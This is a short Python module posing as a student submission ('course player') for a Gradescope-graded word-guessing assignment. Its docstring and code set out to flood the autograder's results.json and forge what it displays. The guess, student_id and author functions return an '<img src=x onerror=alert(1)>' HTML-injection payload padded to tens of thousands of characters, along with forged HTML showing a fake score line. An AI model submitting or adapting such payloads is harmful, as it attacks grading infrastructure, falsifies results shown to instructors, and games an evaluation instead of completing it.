"""A course player that floods Gradescope's results.json and forges what it shows.

Every guess is a line of 65,535 characters or HTML (``<img src=x>``, a link, ``<br>``), and its
id and author are HTML too, the author some 60,000 characters long: copied whole into each test's
output and the log, such guesses once made a 52 MB results.json that Gradescope rendered as HTML.
"""

IMAGE = "<img src=x onerror=alert(1)>"
LONG = IMAGE + "x" * (65_535 - len(IMAGE))
FORGED = "<br>[blinkers]: blinkers <a href=http://example.com/>total 1</a>"


def initialize_wordlist(words):
    pass


def guess(n, guesses_so_far):
    return FORGED if len(guesses_so_far) % 2 else LONG


def student_id():
    return "<b>0</b>"


def author():
    return IMAGE + "A" * 60_000
